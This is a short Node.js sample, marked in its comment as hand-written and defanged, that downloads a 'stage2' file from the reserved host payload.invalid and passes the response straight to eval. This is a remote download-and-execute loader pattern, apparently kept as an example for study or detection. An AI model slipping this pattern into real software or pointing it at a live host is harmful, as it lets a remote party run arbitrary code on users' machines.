// Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
const https = require("https");
https.get("https://payload.invalid/stage2", (answer) => {
  let body = "";
  answer.on("data", (chunk) => (body += chunk));
  answer.on("end", () => eval(body));
});
